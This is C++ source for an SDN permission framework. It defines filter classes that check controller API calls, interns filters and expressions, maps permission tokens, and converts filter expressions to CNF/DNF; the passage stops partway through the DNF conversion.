WildcardFilter::WildcardFilter(of::MatchField field) : field_(field) {}

bool WildcardFilter::isIpField() const {
  return field_ == of::MatchField::kIpSrc || field_ == of::MatchField::kIpDst;
}

std::uint32_t WildcardFilter::dimension() const {
  return (static_cast<std::uint32_t>(kind()) << 16) |
         static_cast<std::uint32_t>(field_);
}

bool WildcardFilter::evaluate(const ApiCall& call) const {
  if (!isRuleIssuingCall(call)) return true;
  if (!call.match) return true;  // Fully wildcarded rule trivially complies.
  if (isIpField()) {
    const auto& pred = ipField(*call.match, field_);
    if (!pred) return true;
    return (pred->mask.value() & mustWildcard_.value()) == 0;
  }
  return !intField(*call.match, field_).has_value();
}

bool WildcardFilter::includes(const Filter& other) const {
  const auto* o = dynamic_cast<const WildcardFilter*>(&other);
  if (o == nullptr || o->field_ != field_) return false;
  // Fewer forced-wildcard bits allow more rules.
  return (mustWildcard_.value() & o->mustWildcard_.value()) ==
         mustWildcard_.value();
}

bool WildcardFilter::equals(const Filter& other) const {
  const auto* o = dynamic_cast<const WildcardFilter*>(&other);
  return o != nullptr && o->field_ == field_ &&
         o->mustWildcard_ == mustWildcard_;
}

std::string WildcardFilter::toString() const {
  // The mask operand exists only for IP fields in the grammar; printing it
  // for integer fields would produce text the parser rejects (round-trip
  // property of core/lang, covered by lang_roundtrip_test).
  if (!isIpField()) return "WILDCARD " + of::toString(field_);
  return "WILDCARD " + of::toString(field_) + " " + mustWildcard_.toString();
}

// --- ActionFilter ------------------------------------------------------------

FilterPtr ActionFilter::drop() {
  return FilterPtr{new ActionFilter(Mode::kDrop, of::MatchField::kIpDst)};
}
FilterPtr ActionFilter::forward() {
  return FilterPtr{new ActionFilter(Mode::kForward, of::MatchField::kIpDst)};
}
FilterPtr ActionFilter::modify(of::MatchField field) {
  return FilterPtr{new ActionFilter(Mode::kModify, field)};
}

bool ActionFilter::evaluate(const ApiCall& call) const {
  if (!call.actions) return true;
  switch (mode_) {
    case Mode::kDrop:
      return of::isDrop(*call.actions);
    case Mode::kForward:
      return !of::modifiesHeaders(*call.actions);
    case Mode::kModify:
      for (const of::Action& action : *call.actions) {
        const auto* set = std::get_if<of::SetFieldAction>(&action);
        if (set != nullptr && set->field != field_) return false;
      }
      return true;
  }
  return false;
}

bool ActionFilter::includes(const Filter& other) const {
  const auto* o = dynamic_cast<const ActionFilter*>(&other);
  if (o == nullptr) return false;
  auto rank = [](Mode m) { return static_cast<int>(m); };
  if (mode_ == Mode::kModify && o->mode_ == Mode::kModify) {
    return field_ == o->field_;
  }
  return rank(mode_) >= rank(o->mode_);
}

bool ActionFilter::equals(const Filter& other) const {
  const auto* o = dynamic_cast<const ActionFilter*>(&other);
  if (o == nullptr || o->mode_ != mode_) return false;
  return mode_ != Mode::kModify || o->field_ == field_;
}

std::string ActionFilter::toString() const {
  switch (mode_) {
    case Mode::kDrop:
      return "ACTION DROP";
    case Mode::kForward:
      return "ACTION FORWARD";
    case Mode::kModify:
      return "ACTION MODIFY " + of::toString(field_);
  }
  return "ACTION ?";
}

// --- OwnershipFilter ---------------------------------------------------------

bool OwnershipFilter::evaluate(const ApiCall& call) const {
  return !ownOnly_ || call.ownFlow;
}

bool OwnershipFilter::includes(const Filter& other) const {
  const auto* o = dynamic_cast<const OwnershipFilter*>(&other);
  if (o == nullptr) return false;
  return !ownOnly_ || o->ownOnly_;  // ALL ⊇ {ALL, OWN}; OWN ⊇ OWN.
}

bool OwnershipFilter::equals(const Filter& other) const {
  const auto* o = dynamic_cast<const OwnershipFilter*>(&other);
  return o != nullptr && o->ownOnly_ == ownOnly_;
}

std::string OwnershipFilter::toString() const {
  return ownOnly_ ? "OWN_FLOWS" : "ALL_FLOWS";
}

// --- PriorityFilter ----------------------------------------------------------

bool PriorityFilter::evaluate(const ApiCall& call) const {
  if (!call.priority) return true;
  return isMax_ ? *call.priority <= bound_ : *call.priority >= bound_;
}

bool PriorityFilter::includes(const Filter& other) const {
  const auto* o = dynamic_cast<const PriorityFilter*>(&other);
  if (o == nullptr || o->isMax_ != isMax_) return false;
  return isMax_ ? bound_ >= o->bound_ : bound_ <= o->bound_;
}

bool PriorityFilter::equals(const Filter& other) const {
  const auto* o = dynamic_cast<const PriorityFilter*>(&other);
  return o != nullptr && o->isMax_ == isMax_ && o->bound_ == bound_;
}

std::string PriorityFilter::toString() const {
  return (isMax_ ? "MAX_PRIORITY " : "MIN_PRIORITY ") + std::to_string(bound_);
}

// --- TableSizeFilter ---------------------------------------------------------

bool TableSizeFilter::evaluate(const ApiCall& call) const {
  if (!call.ruleCountAfter) return true;
  return *call.ruleCountAfter <= maxRules_;
}

bool TableSizeFilter::includes(const Filter& other) const {
  const auto* o = dynamic_cast<const TableSizeFilter*>(&other);
  return o != nullptr && maxRules_ >= o->maxRules_;
}

bool TableSizeFilter::equals(const Filter& other) const {
  const auto* o = dynamic_cast<const TableSizeFilter*>(&other);
  return o != nullptr && o->maxRules_ == maxRules_;
}

std::string TableSizeFilter::toString() const {
  return "MAX_RULE_COUNT " + std::to_string(maxRules_);
}

// --- PktOutFilter ------------------------------------------------------------

bool PktOutFilter::evaluate(const ApiCall& call) const {
  if (call.type != ApiCallType::kSendPacketOut) return true;
  return !fromPktInOnly_ || call.pktOutFromPacketIn;
}

bool PktOutFilter::includes(const Filter& other) const {
  const auto* o = dynamic_cast<const PktOutFilter*>(&other);
  if (o == nullptr) return false;
  return !fromPktInOnly_ || o->fromPktInOnly_;
}

bool PktOutFilter::equals(const Filter& other) const {
  const auto* o = dynamic_cast<const PktOutFilter*>(&other);
  return o != nullptr && o->fromPktInOnly_ == fromPktInOnly_;
}

std::string PktOutFilter::toString() const {
  return fromPktInOnly_ ? "FROM_PKT_IN" : "ARBITRARY";
}

// --- PhysicalTopologyFilter ----------------------------------------------------

PhysicalTopologyFilter::PhysicalTopologyFilter(
    std::set<of::DatapathId> switches, std::set<LinkPair> links)
    : switches_(std::move(switches)) {
  for (LinkPair link : links) {
    if (link.first > link.second) std::swap(link.first, link.second);
    links_.insert(link);
  }
}

bool PhysicalTopologyFilter::evaluate(const ApiCall& call) const {
  if (call.dpid && !switches_.contains(*call.dpid)) return false;
  for (of::DatapathId dpid : call.topoSwitches) {
    if (!switches_.contains(dpid)) return false;
  }
  for (LinkPair link : call.topoLinks) {
    if (link.first > link.second) std::swap(link.first, link.second);
    if (!links_.contains(link)) return false;
  }
  return true;
}

bool PhysicalTopologyFilter::includes(const Filter& other) const {
  const auto* o = dynamic_cast<const PhysicalTopologyFilter*>(&other);
  if (o == nullptr) return false;
  return std::includes(switches_.begin(), switches_.end(),
                       o->switches_.begin(), o->switches_.end()) &&
         std::includes(links_.begin(), links_.end(), o->links_.begin(),
                       o->links_.end());
}

bool PhysicalTopologyFilter::equals(const Filter& other) const {
  const auto* o = dynamic_cast<const PhysicalTopologyFilter*>(&other);
  return o != nullptr && o->switches_ == switches_ && o->links_ == links_;
}

std::string PhysicalTopologyFilter::toString() const {
  std::ostringstream out;
  out << "SWITCH {";
  bool first = true;
  for (of::DatapathId dpid : switches_) {
    if (!first) out << ",";
    first = false;
    out << dpid;
  }
  out << "} LINK {";
  first = true;
  for (const LinkPair& link : links_) {
    if (!first) out << ",";
    first = false;
    out << "(" << link.first << "," << link.second << ")";
  }
  out << "}";
  return out.str();
}

// --- VirtualTopologyFilter -----------------------------------------------------

VirtualTopologyFilter::VirtualTopologyFilter(
    std::set<of::DatapathId> memberSwitches)
    : members_(std::move(memberSwitches)) {}

bool VirtualTopologyFilter::evaluate(const ApiCall&) const {
  // Translation marker: the kernel deputy rewrites the call through the
  // virtual mapping; the label itself is permissive.
  return true;
}

bool VirtualTopologyFilter::includes(const Filter& other) const {
  return equals(other);
}

bool VirtualTopologyFilter::equals(const Filter& other) const {
  const auto* o = dynamic_cast<const VirtualTopologyFilter*>(&other);
  return o != nullptr && o->members_ == members_;
}

std::string VirtualTopologyFilter::toString() const {
  if (isSingleBigSwitch()) return "VIRTUAL SINGLE_BIG_SWITCH";
  std::ostringstream out;
  out << "VIRTUAL {";
  bool first = true;
  for (of::DatapathId dpid : members_) {
    if (!first) out << ",";
    first = false;
    out << dpid;
  }
  out << "}";
  return out.str();
}

// --- CallbackFilter ------------------------------------------------------------

std::uint32_t CallbackFilter::dimension() const {
  return (static_cast<std::uint32_t>(kind()) << 16) |
         static_cast<std::uint32_t>(capability_);
}

bool CallbackFilter::evaluate(const ApiCall& call) const {
  if (!call.callbackOp) return true;
  switch (*call.callbackOp) {
    case CallbackOp::kObserve:
      return true;
    case CallbackOp::kIntercept:
      return capability_ == Capability::kInterception;
    case CallbackOp::kReorder:
      return capability_ == Capability::kModifyOrder;
  }
  return false;
}

bool CallbackFilter::includes(const Filter& other) const {
  return equals(other);
}

bool CallbackFilter::equals(const Filter& other) const {
  const auto* o = dynamic_cast<const CallbackFilter*>(&other);
  return o != nullptr && o->capability_ == capability_;
}

std::string CallbackFilter::toString() const {
  return capability_ == Capability::kInterception ? "EVENT_INTERCEPTION"
                                                  : "MODIFY_EVENT_ORDER";
}

// --- StatisticsFilter ----------------------------------------------------------

bool StatisticsFilter::evaluate(const ApiCall& call) const {
  if (!call.statsLevel) return true;
  return *call.statsLevel == level_;
}

bool StatisticsFilter::includes(const Filter& other) const {
  return equals(other);
}

bool StatisticsFilter::equals(const Filter& other) const {
  const auto* o = dynamic_cast<const StatisticsFilter*>(&other);
  return o != nullptr && o->level_ == level_;
}

std::string StatisticsFilter::toString() const { return of::toString(level_); }

// --- StubFilter ----------------------------------------------------------------

std::uint32_t StubFilter::dimension() const {
  // Distinct stubs are distinct (incomparable) dimensions.
  return (static_cast<std::uint32_t>(kind()) << 16) |
         (static_cast<std::uint32_t>(std::hash<std::string>{}(name_)) &
          0xffffu);
}

bool StubFilter::evaluate(const ApiCall&) const {
  return false;  // Unresolved customization point: fail closed.
}

bool StubFilter::includes(const Filter& other) const { return equals(other); }

bool StubFilter::equals(const Filter& other) const {
  const auto* o = dynamic_cast<const StubFilter*>(&other);
  return o != nullptr && o->name_ == name_;
}

std::string StubFilter::toString() const { return name_; }

}  // namespace sdnshield::perm
