#include "core/perm/interner.h"

#include <functional>
#include <string>

namespace sdnshield::perm {

namespace {

inline std::size_t hashCombine(std::size_t seed, std::size_t value) {
  return seed ^ (value + 0x9e3779b97f4a7c15ULL + (seed << 6) + (seed >> 2));
}

}  // namespace

std::size_t filterHash(const Filter& filter) {
  // toString() is the canonical spelling of each filter, so it captures the
  // state equals() compares — with one exception: MaskedIpv4 equality
  // ignores unmasked value bits ("10.2.3.0 MASK 255.0.0.0" equals
  // "10.0.0.0 MASK 255.0.0.0") while toString prints them verbatim. Hash
  // the masked-out canonical form there so equal filters always land in the
  // same bucket; everywhere else hash the spelling, which keeps this
  // independent of subclass layout. Only runs at intern time, never per
  // check.
  std::size_t seed = static_cast<std::size_t>(filter.kind()) * 0x100000001b3ULL;
  seed = hashCombine(seed, filter.dimension());
  const auto* pred = dynamic_cast<const FieldPredicateFilter*>(&filter);
  if (pred != nullptr && (pred->field() == of::MatchField::kIpSrc ||
                          pred->field() == of::MatchField::kIpDst)) {
    const of::MaskedIpv4& range = pred->range();
    of::MaskedIpv4 canonical{
        of::Ipv4Address{range.value.value() & range.mask.value()}, range.mask};
    return hashCombine(
        seed, std::hash<std::string>{}(of::toString(pred->field()) + " " +
                                       canonical.toString()));
  }
  return hashCombine(seed, std::hash<std::string>{}(filter.toString()));
}

FilterInterner& FilterInterner::global() {
  static FilterInterner* interner = new FilterInterner();  // Never destroyed.
  return *interner;
}

FilterPtr FilterInterner::intern(FilterPtr filter) {
  if (!filter) return filter;
  std::size_t hash = filterHash(*filter);
  std::lock_guard lock(mutex_);
  std::vector<FilterPtr>& bucket = buckets_[hash];
  for (const FilterPtr& candidate : bucket) {
    if (candidate.get() == filter.get() || candidate->equals(*filter)) {
      ++hits_;
      return candidate;
    }
  }
  ++misses_;
  ++count_;
  bucket.push_back(filter);
  return filter;
}

FilterInterner::Stats FilterInterner::stats() const {
  std::lock_guard lock(mutex_);
  return Stats{count_, hits_, misses_};
}

ExprInterner& ExprInterner::global() {
  static ExprInterner* interner = new ExprInterner();  // Never destroyed.
  return *interner;
}

std::size_t ExprInterner::NodeKeyHash::operator()(const NodeKey& key) const {
  std::size_t seed = static_cast<std::size_t>(key.op) * 0x100000001b3ULL;
  seed = hashCombine(seed, reinterpret_cast<std::uintptr_t>(key.filter));
  seed = hashCombine(seed, reinterpret_cast<std::uintptr_t>(key.lhs));
  seed = hashCombine(seed, reinterpret_cast<std::uintptr_t>(key.rhs));
  return seed;
}

FilterExprPtr ExprInterner::intern(const FilterExprPtr& expr) {
  if (!expr) return expr;
  std::lock_guard lock(mutex_);
  return internLocked(expr);
}

FilterExprPtr ExprInterner::internLocked(const FilterExprPtr& expr) {
  if (canonical_.contains(expr.get())) {
    ++hits_;
    return expr;
  }
  // Children first (recursion depth = tree depth, the same bound the
  // normal-form conversions already recurse to).
  using Op = FilterExpr::Op;
  FilterExprPtr lhs = expr->lhs() ? internLocked(expr->lhs()) : nullptr;
  FilterExprPtr rhs = expr->rhs() ? internLocked(expr->rhs()) : nullptr;
  FilterPtr filter = expr->op() == Op::kSingleton
                         ? FilterInterner::global().intern(expr->filter())
                         : nullptr;
  NodeKey key{expr->op(), filter.get(), lhs.get(), rhs.get()};
  if (auto it = nodes_.find(key); it != nodes_.end()) {
    ++hits_;
    return it->second;
  }
  ++misses_;
  FilterExprPtr node;
  if (lhs == expr->lhs() && rhs == expr->rhs() && filter == expr->filter()) {
    node = expr;  // Already built from canonical parts: adopt as-is.
  } else {
    switch (expr->op()) {
      case Op::kSingleton:
        node = FilterExpr::singleton(std::move(filter));
        break;
      case Op::kAnd:
        node = FilterExpr::conj(std::move(lhs), std::move(rhs));
        break;
      case Op::kOr:
        node = FilterExpr::disj(std::move(lhs), std::move(rhs));
        break;
      case Op::kNot:
        node = FilterExpr::negate(std::move(lhs));
        break;
    }
  }
  nodes_.emplace(key, node);
  canonical_.insert(node.get());
  return node;
}

ExprInterner::Stats ExprInterner::stats() const {
  std::lock_guard lock(mutex_);
  return Stats{nodes_.size(), hits_, misses_};
}

FilterExprPtr internExpr(const FilterExprPtr& expr) {
  return ExprInterner::global().intern(expr);
}

FilterExprPtr internFilters(const FilterExprPtr& expr) {
  if (!expr) return expr;
  using Op = FilterExpr::Op;
  switch (expr->op()) {
    case Op::kSingleton: {
      FilterPtr interned = FilterInterner::global().intern(expr->filter());
      if (interned.get() == expr->filter().get()) return expr;
      return FilterExpr::singleton(std::move(interned));
    }
    case Op::kAnd:
    case Op::kOr: {
      FilterExprPtr lhs = internFilters(expr->lhs());
      FilterExprPtr rhs = internFilters(expr->rhs());
      if (lhs == expr->lhs() && rhs == expr->rhs()) return expr;
      return expr->op() == Op::kAnd
                 ? FilterExpr::conj(std::move(lhs), std::move(rhs))
                 : FilterExpr::disj(std::move(lhs), std::move(rhs));
    }
    case Op::kNot: {
      FilterExprPtr operand = internFilters(expr->lhs());
      if (operand == expr->lhs()) return expr;
      return FilterExpr::negate(std::move(operand));
    }
  }
  return expr;
}

}  // namespace sdnshield::perm
