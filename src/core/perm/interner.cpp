#include "core/perm/interner.h"

#include <functional>
#include <string>

namespace sdnshield::perm {

namespace {

inline std::size_t hashCombine(std::size_t seed, std::size_t value) {
  return seed ^ (value + 0x9e3779b97f4a7c15ULL + (seed << 6) + (seed >> 2));
}

}  // namespace

std::size_t filterHash(const Filter& filter) {
  // toString() is the canonical spelling of each filter, so it captures the
  // state equals() compares — with one exception: MaskedIpv4 equality
  // ignores unmasked value bits ("10.2.3.0 MASK 255.0.0.0" equals
  // "10.0.0.0 MASK 255.0.0.0") while toString prints them verbatim. Hash
  // the masked-out canonical form there so equal filters always land in the
  // same bucket; everywhere else hash the spelling, which keeps this
  // independent of subclass layout. Only runs at intern time, never per
  // check.
  std::size_t seed = static_cast<std::size_t>(filter.kind()) * 0x100000001b3ULL;
  seed = hashCombine(seed, filter.dimension());
  const auto* pred = dynamic_cast<const FieldPredicateFilter*>(&filter);
  if (pred != nullptr && (pred->field() == of::MatchField::kIpSrc ||
                          pred->field() == of::MatchField::kIpDst)) {
    const of::MaskedIpv4& range = pred->range();
    of::MaskedIpv4 canonical{
        of::Ipv4Address{range.value.value() & range.mask.value()}, range.mask};
    return hashCombine(
        seed, std::hash<std::string>{}(of::toString(pred->field()) + " " +
                                       canonical.toString()));
  }
  return hashCombine(seed, std::hash<std::string>{}(filter.toString()));
}

FilterInterner& FilterInterner::global() {
  static FilterInterner* interner = new FilterInterner();  // Never destroyed.
  return *interner;
}

FilterPtr FilterInterner::intern(FilterPtr filter) {
  if (!filter) return filter;
  std::size_t hash = filterHash(*filter);
  std::lock_guard lock(mutex_);
  std::vector<FilterPtr>& bucket = buckets_[hash];
  for (const FilterPtr& candidate : bucket) {
    if (candidate.get() == filter.get() || candidate->equals(*filter)) {
      ++hits_;
      return candidate;
    }
  }
  ++misses_;
  ++count_;
  bucket.push_back(filter);
  return filter;
}

FilterInterner::Stats FilterInterner::stats() const {
  std::lock_guard lock(mutex_);
  return Stats{count_, hits_, misses_};
}

FilterExprPtr internFilters(const FilterExprPtr& expr) {
  if (!expr) return expr;
  using Op = FilterExpr::Op;
  switch (expr->op()) {
    case Op::kSingleton: {
      FilterPtr interned = FilterInterner::global().intern(expr->filter());
      if (interned.get() == expr->filter().get()) return expr;
      return FilterExpr::singleton(std::move(interned));
    }
    case Op::kAnd:
    case Op::kOr: {
      FilterExprPtr lhs = internFilters(expr->lhs());
      FilterExprPtr rhs = internFilters(expr->rhs());
      if (lhs == expr->lhs() && rhs == expr->rhs()) return expr;
      return expr->op() == Op::kAnd
                 ? FilterExpr::conj(std::move(lhs), std::move(rhs))
                 : FilterExpr::disj(std::move(lhs), std::move(rhs));
    }
    case Op::kNot: {
      FilterExprPtr operand = internFilters(expr->lhs());
      if (operand == expr->lhs()) return expr;
      return FilterExpr::negate(std::move(operand));
    }
  }
  return expr;
}

}  // namespace sdnshield::perm
