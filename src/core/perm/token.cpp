#include "core/perm/token.h"

namespace sdnshield::perm {

ResourceClass resourceOf(Token token) {
  switch (token) {
    case Token::kReadFlowTable:
    case Token::kInsertFlow:
    case Token::kDeleteFlow:
    case Token::kFlowEvent:
      return ResourceClass::kFlowTable;
    case Token::kVisibleTopology:
    case Token::kModifyTopology:
    case Token::kTopologyEvent:
      return ResourceClass::kTopology;
    case Token::kReadStatistics:
    case Token::kErrorEvent:
      return ResourceClass::kStatistics;
    case Token::kReadPayload:
    case Token::kSendPktOut:
    case Token::kPktInEvent:
      return ResourceClass::kPacketIo;
    case Token::kHostNetwork:
    case Token::kFileSystem:
    case Token::kProcessRuntime:
      return ResourceClass::kHostSystem;
    case Token::kMarketAdmin:
      return ResourceClass::kLifecycle;
  }
  return ResourceClass::kHostSystem;
}

ActionClass actionOf(Token token) {
  switch (token) {
    case Token::kReadFlowTable:
    case Token::kVisibleTopology:
    case Token::kReadStatistics:
    case Token::kReadPayload:
      return ActionClass::kRead;
    case Token::kInsertFlow:
    case Token::kDeleteFlow:
    case Token::kModifyTopology:
    case Token::kSendPktOut:
    case Token::kHostNetwork:
    case Token::kFileSystem:
    case Token::kProcessRuntime:
    case Token::kMarketAdmin:
      return ActionClass::kWrite;
    case Token::kFlowEvent:
    case Token::kTopologyEvent:
    case Token::kErrorEvent:
    case Token::kPktInEvent:
      return ActionClass::kEvent;
  }
  return ActionClass::kRead;
}

std::string toString(Token token) {
  switch (token) {
    case Token::kReadFlowTable:
      return "read_flow_table";
    case Token::kInsertFlow:
      return "insert_flow";
    case Token::kDeleteFlow:
      return "delete_flow";
    case Token::kFlowEvent:
      return "flow_event";
    case Token::kVisibleTopology:
      return "visible_topology";
    case Token::kModifyTopology:
      return "modify_topology";
    case Token::kTopologyEvent:
      return "topology_event";
    case Token::kReadStatistics:
      return "read_statistics";
    case Token::kErrorEvent:
      return "error_event";
    case Token::kReadPayload:
      return "read_payload";
    case Token::kSendPktOut:
      return "send_pkt_out";
    case Token::kPktInEvent:
      return "pkt_in_event";
    case Token::kHostNetwork:
      return "host_network";
    case Token::kFileSystem:
      return "file_system";
    case Token::kProcessRuntime:
      return "process_runtime";
    case Token::kMarketAdmin:
      return "market_admin";
  }
  return "unknown_token";
}

std::optional<Token> parseToken(const std::string& name) {
  for (Token token : kAllTokens) {
    if (toString(token) == name) return token;
  }
  // Aliases used in the paper's own examples.
  if (name == "network_access") return Token::kHostNetwork;
  if (name == "send_packet_out") return Token::kSendPktOut;
  if (name == "read_topology") return Token::kVisibleTopology;
  if (name == "pkt_in_event" || name == "packet_in_event")
    return Token::kPktInEvent;
  return std::nullopt;
}

}  // namespace sdnshield::perm
