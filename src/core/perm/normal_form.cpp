#include "core/perm/normal_form.h"

#include <algorithm>
#include <atomic>
#include <cstdint>
#include <memory>
#include <mutex>
#include <sstream>
#include <unordered_map>
#include <unordered_set>
#include <vector>

#include "core/perm/interner.h"

namespace sdnshield::perm {

namespace {

// All literals below come out of cnfClauses/dnfClauses, which intern every
// filter, so semantic filter equality is pointer equality. A literal packs
// into one word: the canonical filter pointer with the polarity in bit 0
// (heap objects are at least 8-byte aligned).
using LitKey = std::uintptr_t;

LitKey litKey(const Literal& lit) {
  return reinterpret_cast<std::uintptr_t>(lit.filter.get()) |
         static_cast<std::uintptr_t>(lit.negated);
}

/// True when the clause contains both l and ¬l for the same filter.
bool hasContradiction(const Clause& clause) {
  std::unordered_set<LitKey> seen;
  seen.reserve(clause.size());
  for (const Literal& lit : clause) {
    LitKey key = litKey(lit);
    if (seen.contains(key ^ 1u)) return true;  // Opposite polarity present.
    seen.insert(key);
  }
  return false;
}

Clause dedupLiterals(Clause clause) {
  std::unordered_set<LitKey> seen;
  seen.reserve(clause.size());
  Clause out;
  for (Literal& lit : clause) {
    if (seen.insert(litKey(lit)).second) out.push_back(std::move(lit));
  }
  return out;
}

/// Order-independent clause signature: the sorted literal keys.
std::vector<LitKey> clauseSignature(const Clause& clause) {
  std::vector<LitKey> sig;
  sig.reserve(clause.size());
  for (const Literal& lit : clause) sig.push_back(litKey(lit));
  std::sort(sig.begin(), sig.end());
  return sig;
}

std::size_t signatureHash(const std::vector<LitKey>& sig) {
  std::size_t seed = sig.size();
  for (LitKey key : sig) {
    seed ^= key + 0x9e3779b97f4a7c15ULL + (seed << 6) + (seed >> 2);
  }
  return seed;
}

std::vector<Clause> dedupClauses(std::vector<Clause> clauses) {
  std::unordered_map<std::size_t, std::vector<std::vector<LitKey>>> seen;
  seen.reserve(clauses.size());
  std::vector<Clause> out;
  for (Clause& clause : clauses) {
    std::vector<LitKey> sig = clauseSignature(clause);
    std::vector<std::vector<LitKey>>& bucket = seen[signatureHash(sig)];
    bool dup = std::any_of(
        bucket.begin(), bucket.end(),
        [&](const std::vector<LitKey>& other) { return other == sig; });
    if (dup) continue;
    bucket.push_back(std::move(sig));
    out.push_back(std::move(clause));
  }
  return out;
}

/// Cross product: conjunction of two clause-disjunctions (for CNF) or
/// disjunction of two clause-conjunctions (for DNF) distributes into
/// pairwise-merged clauses.
std::vector<Clause> crossMerge(const std::vector<Clause>& lhs,
                               const std::vector<Clause>& rhs) {
  std::vector<Clause> out;
  out.reserve(lhs.size() * rhs.size());
  for (const Clause& a : lhs) {
    for (const Clause& b : rhs) {
      Clause merged = a;
      merged.insert(merged.end(), b.begin(), b.end());
      out.push_back(dedupLiterals(std::move(merged)));
    }
  }
  return out;
}

// Builds DNF clauses of `expr` under an odd/even number of enclosing
// negations. In DNF a clause is a conjunction; disjunction concatenates
// clause lists and conjunction cross-merges them.
std::vector<Clause> dnfClauses(const FilterExprPtr& expr, bool negated) {
  switch (expr->op()) {
    case FilterExpr::Op::kSingleton:
      return {{Literal{FilterInterner::global().intern(expr->filter()),
                       negated}}};
    case FilterExpr::Op::kNot:
      return dnfClauses(expr->lhs(), !negated);
    case FilterExpr::Op::kAnd: {
      auto lhs = dnfClauses(expr->lhs(), negated);
      auto rhs = dnfClauses(expr->rhs(), negated);
      if (!negated) return crossMerge(lhs, rhs);
      lhs.insert(lhs.end(), rhs.begin(), rhs.end());
      return lhs;
    }
    case FilterExpr::Op::kOr: {
      auto lhs = dnfClauses(expr->lhs(), negated);
      auto rhs = dnfClauses(expr->rhs(), negated);
      if (negated) return crossMerge(lhs, rhs);
      lhs.insert(lhs.end(), rhs.begin(), rhs.end());
      return lhs;
    }
  }
  return {};
}

// Dual construction for CNF (clause = disjunction).
std::vector<Clause> cnfClauses(const FilterExprPtr& expr, bool negated) {
  switch (expr->op()) {
    case FilterExpr::Op::kSingleton:
      return {{Literal{FilterInterner::global().intern(expr->filter()),
                       negated}}};
    case FilterExpr::Op::kNot:
      return cnfClauses(expr->lhs(), !negated);
    case FilterExpr::Op::kAnd: {
      auto lhs = cnfClauses(expr->lhs(), negated);
      auto rhs = cnfClauses(expr->rhs(), negated);
      if (negated) return crossMerge(lhs, rhs);
      lhs.insert(lhs.end(), rhs.begin(), rhs.end());
      return lhs;
    }
    case FilterExpr::Op::kOr: {
      auto lhs = cnfClauses(expr->lhs(), negated);
      auto rhs = cnfClauses(expr->rhs(), negated);
      if (!negated) return crossMerge(lhs, rhs);
      lhs.insert(lhs.end(), rhs.begin(), rhs.end());
      return lhs;
    }
  }
  return {};
}

// --- inclusion memo ---------------------------------------------------------

/// Process-wide caches keyed on canonical (ExprInterner) pointers, which are
/// stable for the life of the process — entries never dangle and never go
/// stale. Bounded by wholesale flush at a generous cap: the memo is a pure
/// accelerator, so dropping it only costs recomputation.
/// The exact operand pair of a filterIncludes call; keys compare exactly,
/// so a hash collision can never flip a cached answer.
struct PtrPair {
  const FilterExpr* a;
  const FilterExpr* b;
  bool operator==(const PtrPair&) const = default;
};
struct PtrPairHash {
  std::size_t operator()(const PtrPair& pair) const {
    std::uintptr_t a = reinterpret_cast<std::uintptr_t>(pair.a);
    std::uintptr_t b = reinterpret_cast<std::uintptr_t>(pair.b);
    std::size_t seed = a * 0x9e3779b97f4a7c15ULL;
    return seed ^ (b + 0x100000001b3ULL + (seed << 6) + (seed >> 2));
  }
};

struct InclusionCache {
  static constexpr std::size_t kMaxInclusionEntries = 1u << 20;
  static constexpr std::size_t kMaxFormEntries = 1u << 16;

  std::mutex mutex;
  std::unordered_map<PtrPair, bool, PtrPairHash> results;
  std::unordered_map<const FilterExpr*, std::shared_ptr<const Cnf>> cnf;
  std::unordered_map<const FilterExpr*, std::shared_ptr<const Dnf>> dnf;
  std::atomic<std::uint64_t> inclusionHits{0};
  std::atomic<std::uint64_t> inclusionMisses{0};
  std::atomic<std::uint64_t> formHits{0};
  std::atomic<std::uint64_t> formMisses{0};
};

InclusionCache& inclusionCache() {
  static InclusionCache* cache = new InclusionCache();  // Never destroyed.
  return *cache;
}

/// CNF of a canonical expression, computed at most once per pointer.
/// Conversion runs outside the lock (it can be exponential); concurrent
/// first converters may duplicate work, never results.
std::shared_ptr<const Cnf> cachedCnf(const FilterExprPtr& canonical) {
  InclusionCache& cache = inclusionCache();
  {
    std::lock_guard lock(cache.mutex);
    if (auto it = cache.cnf.find(canonical.get()); it != cache.cnf.end()) {
      cache.formHits.fetch_add(1, std::memory_order_relaxed);
      return it->second;
    }
  }
  cache.formMisses.fetch_add(1, std::memory_order_relaxed);
  auto converted = std::make_shared<const Cnf>(toCnf(canonical));
  std::lock_guard lock(cache.mutex);
  if (cache.cnf.size() >= InclusionCache::kMaxFormEntries) cache.cnf.clear();
  auto [it, inserted] = cache.cnf.emplace(canonical.get(), converted);
  return it->second;
}

std::shared_ptr<const Dnf> cachedDnf(const FilterExprPtr& canonical) {
  InclusionCache& cache = inclusionCache();
  {
    std::lock_guard lock(cache.mutex);
    if (auto it = cache.dnf.find(canonical.get()); it != cache.dnf.end()) {
      cache.formHits.fetch_add(1, std::memory_order_relaxed);
      return it->second;
    }
  }
  cache.formMisses.fetch_add(1, std::memory_order_relaxed);
  auto converted = std::make_shared<const Dnf>(toDnf(canonical));
  std::lock_guard lock(cache.mutex);
  if (cache.dnf.size() >= InclusionCache::kMaxFormEntries) cache.dnf.clear();
  auto [it, inserted] = cache.dnf.emplace(canonical.get(), converted);
  return it->second;
}

std::string clauseToString(const Clause& clause, const char* joiner) {
  std::ostringstream out;
  out << "(";
  for (std::size_t i = 0; i < clause.size(); ++i) {
    if (i > 0) out << joiner;
    out << clause[i].toString();
  }
  out << ")";
  return out.str();
}

}  // namespace

std::string Literal::toString() const {
  return negated ? "NOT " + filter->toString() : filter->toString();
}

bool Cnf::evaluate(const ApiCall& call) const {
  for (const Clause& clause : clauses) {
    bool any = std::any_of(clause.begin(), clause.end(), [&](const Literal& l) {
      return l.evaluate(call);
    });
    if (!any) return false;
  }
  return true;  // Empty CNF is true.
}

bool Dnf::evaluate(const ApiCall& call) const {
  for (const Clause& clause : clauses) {
    bool all = std::all_of(clause.begin(), clause.end(), [&](const Literal& l) {
      return l.evaluate(call);
    });
    if (all) return true;
  }
  return false;  // Empty DNF is false.
}

std::string Cnf::toString() const {
  std::ostringstream out;
  for (std::size_t i = 0; i < clauses.size(); ++i) {
    if (i > 0) out << " AND ";
    out << clauseToString(clauses[i], " OR ");
  }
  return out.str();
}

std::string Dnf::toString() const {
  std::ostringstream out;
  for (std::size_t i = 0; i < clauses.size(); ++i) {
    if (i > 0) out << " OR ";
    out << clauseToString(clauses[i], " AND ");
  }
  return out.str();
}

Cnf toCnf(const FilterExprPtr& expr) {
  std::vector<Clause> clauses = cnfClauses(expr, false);
  // A disjunctive clause containing l OR ¬l is a tautology: drop it.
  std::erase_if(clauses, hasContradiction);
  return Cnf{dedupClauses(std::move(clauses))};
}

Dnf toDnf(const FilterExprPtr& expr) {
